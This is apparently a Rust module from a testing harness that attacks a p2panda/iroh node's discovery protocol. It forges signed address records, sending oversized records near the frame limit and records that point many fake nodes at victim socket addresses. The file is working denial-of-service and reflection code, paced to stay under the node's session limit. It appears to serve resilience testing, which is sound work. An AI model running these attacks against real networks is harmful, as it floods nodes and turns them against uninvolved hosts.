//! Attacks by address records, which anybody can sign for any number of nodes.

use std::net::SocketAddr;
use std::time::Duration;

use bytes::{Bytes, BytesMut};
use p2panda_core::{SigningKey, Timestamp, cbor};
use p2panda_protocol::wire::Writer;
use tokio::time::{sleep, timeout};

use crate::attacker::{DISCOVERY, key};
use crate::behaviour::Attack;
use crate::error::Stopped;
use crate::wire;

/// Records of a message, which all together stay below the 1 MiB of a frame.
const FAT_RECORDS: usize = 240;
/// Relay URLs of a record.
const RELAYS: usize = 4;
/// Bytes of each, so that a record has a little less than 2 KiB, or a little more.
const URL_BYTES: (usize, usize) = (460, 500);
/// Between two sessions of one identity: the node admits 30 in a minute.
const SESSIONS_APART: Duration = Duration::from_secs(1);

/// Messages of many records, those of every fourth message a little above the limit.
pub(crate) fn fat_records(messages: usize) -> Vec<Bytes> {
    let urls = |bytes| (0..RELAYS).map(|number| url(number, bytes)).collect();
    let (below, above): (Vec<String>, Vec<String>) = (urls(URL_BYTES.0), urls(URL_BYTES.1));
    let message = |message: usize| {
        let urls = if message % 4 == 3 { &above } else { &below };
        let mut payload = BytesMut::new();
        Writer::new(&mut payload).array(&[3]).count(FAT_RECORDS);
        for record in 0..FAT_RECORDS {
            let node = key("fat", message * FAT_RECORDS + record);
            write_record(&mut payload, &node, Addresses::Relays(urls));
        }
        wire::framed(&payload)
    };
    (0..messages).map(message).collect()
}

/// A record a little below the limit.
pub(crate) fn write_fat_record(out: &mut BytesMut, number: usize) {
    let urls: Vec<String> = (0..RELAYS).map(|relay| url(relay, URL_BYTES.0)).collect();
    write_record(out, &key("link", number), Addresses::Relays(&urls));
}

fn url(number: usize, bytes: usize) -> String {
    let mut url = format!("https://relay{number:02}.invalid/");
    url.extend(std::iter::repeat_n('x', bytes - url.len()));
    url
}

pub(crate) async fn tell_fat_records(attack: &Attack) -> Result<(), Stopped> {
    for message in attack.own_ammunition() {
        // One that is refused is not told again.
        let _ = tell(attack, message).await;
        sleep(SESSIONS_APART).await;
    }
    std::future::pending().await
}

pub(crate) async fn tell_of_victims(attack: &Attack) -> Result<(), Stopped> {
    let mut sinks = attack.target.sinks.clone();
    sinks.sort();
    for number in 0..attack.share() {
        let node = key("reflected", attack.attacker.number * 10_000 + number);
        let mut payload = BytesMut::new();
        Writer::new(&mut payload).array(&[3]).count(1);
        write_record(&mut payload, &node, Addresses::Sockets(&sinks));
        let _ = tell(attack, &wire::framed(&payload)).await;
        sleep(SESSIONS_APART).await;
    }
    std::future::pending().await
}

/// One session as the side that dialled: no topics, and this message.
async fn tell(attack: &Attack, nodes: &[u8]) -> Result<(), Stopped> {
    let attacker = &attack.attacker;
    let connection = attacker.connect(attack.target.node, DISCOVERY).await?;
    let (mut send, mut recv) = connection.open_bi().await?;
    let salt = [&[0, 0, 0, 0x21, 0][..], &[7; 32]].concat();
    send.write_all(&salt).await?;
    read_frame(&mut recv).await?;
    send.write_all(&[0, 0, 0, 2, 2, 0]).await?;
    read_frame(&mut recv).await?;
    for chunk in nodes.chunks(64 * 1024) {
        send.write_all(chunk).await?;
        attacker.effort.add(chunk.len());
    }
    timeout(Duration::from_secs(10), connection.closed()).await?;
    Ok(())
}

async fn read_frame(recv: &mut iroh::endpoint::RecvStream) -> Result<(), Stopped> {
    let mut length = [0; 4];
    recv.read_exact(&mut length).await?;
    let mut payload = vec![0; u32::from_be_bytes(length) as usize];
    recv.read_exact(&mut payload).await?;
    Ok(())
}

enum Addresses<'a> {
    Relays(&'a [String]),
    Sockets(&'a [SocketAddr]),
}

/// Node id and signed transport info, no matter what a node would keep of it.
fn write_record(out: &mut BytesMut, key: &SigningKey, addresses: Addresses<'_>) {
    let node = key.verifying_key();
    let timestamp = wire::now();
    let signature = key.sign(&signed(node.as_bytes(), timestamp, &addresses));
    let mut writer = Writer::new(out);
    writer.bytes(node.as_bytes());
    writer.uint(timestamp.as_micros()).uint(0u32);
    writer.bytes(signature.as_bytes());
    writer.count(1).uint(0u32).array(node.as_bytes());
    match addresses {
        Addresses::Relays(urls) => {
            writer.count(urls.len());
            for url in urls {
                writer.uint(0u32).bytes(url.as_bytes());
            }
        }
        Addresses::Sockets(sockets) => {
            writer.count(sockets.len());
            for (ip, port) in sockets.iter().filter_map(v4) {
                writer.array(&[1, 0]).array(&ip).uint(port);
            }
        }
    }
}

/// Returns the bytes that the signature covers (docs/protocol/network.md#4).
fn signed(node: &[u8; 32], timestamp: Timestamp, addresses: &Addresses<'_>) -> Vec<u8> {
    let mut cbor = cbor::Writer::new();
    cbor.map(2).text("addresses").array(1);
    cbor.map(1).text("Iroh").map(2).text("id").array(32);
    for byte in node {
        cbor.uint(u64::from(*byte));
    }
    cbor.text("addrs");
    match addresses {
        Addresses::Relays(urls) => {
            cbor.array(urls.len());
            for url in *urls {
                cbor.map(1).text("Relay").text(url);
            }
        }
        Addresses::Sockets(sockets) => {
            cbor.array(sockets.len());
            for (ip, port) in sockets.iter().filter_map(v4) {
                cbor.map(1).text("Ip").map(1).text("V4").array(2).array(4);
                for byte in ip {
                    cbor.uint(u64::from(byte));
                }
                cbor.uint(u64::from(port));
            }
        }
    }
    cbor.text("timestamp").array(2);
    cbor.uint(timestamp.as_micros()).uint(0);
    cbor.into_bytes()
}

fn v4(socket: &SocketAddr) -> Option<([u8; 4], u16)> {
    match socket {
        SocketAddr::V4(v4) => Some((v4.ip().octets(), v4.port())),
        SocketAddr::V6(_) => None,
    }
}
